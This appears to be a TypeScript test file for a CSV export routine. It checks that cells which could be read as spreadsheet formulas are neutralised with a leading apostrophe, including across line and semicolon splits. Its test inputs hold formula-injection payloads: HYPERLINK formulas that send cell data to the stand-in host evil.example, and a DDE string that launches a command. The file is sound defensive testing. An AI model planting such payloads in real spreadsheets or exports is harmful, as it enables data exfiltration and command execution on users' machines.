import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { csvOf } from '../../api/csv';

const cellOf = (text: unknown): string => {
  const rows: string[][] = parse(csvOf([{ text }], ['text']), { record_delimiter: ['\r\n', '\n', '\r'] });
  return rows[1]?.[0] ?? '';
};

test.each([
  ['=HYPERLINK("http://evil.example")', `'=HYPERLINK("http://evil.example")`],
  ['+1', "'+1"],
  ['-1+cmd|" /C calc"!A0', `'-1+cmd|" /C calc"!A0`],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t'=1"],
  ['\n=1', "'\n'=1"],
  [' =1', " '=1"],
  ['\uFF1D1', "'\uFF1D1"],
  // A French spreadsheet splits lines at semicolons, and quotes within a value do not hold it back.
  ['/v1/tickets/x;=HYPERLINK("http://evil.example/"&A1);', `/v1/tickets/x;'=HYPERLINK("http://evil.example/"&A1);`],
  ['a;b; @x', "a;b; '@x"],
  ['a\r\n-1', "a\r\n'-1"],
])('%j is no formula', (text, safe) => {
  expect(cellOf(text)).toBe(safe);
});

test.each(['2026-11-24T03:28:40.104Z', 'claire@dupont.example', '/v1/tickets,"\r\n', '::1', "l'été; oui", 'a=b', ''])(
  '%j stays as it is',
  (text) => {
    expect(cellOf(text)).toBe(text);
  },
);

test('numbers stay numbers, and nothing is an empty cell', () => {
  expect(csvOf([{ a: -1, b: null }], ['a', 'b'])).toBe('a,b\r\n-1,\r\n');
});

test('wherever a line is split, no cell begins as a formula', () => {
  const parts = fc.constantFrom('=', '+', '-', '@', ';', ',', '\t', '\r', '\n', '|', ' ', '"', 'a', '1', "'");
  fc.assert(
    fc.property(fc.array(parts, { maxLength: 12 }), (text) => {
      for (const cell of cellOf(text.join('')).split(/[;,|\t\r\n]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
    }),
  );
});
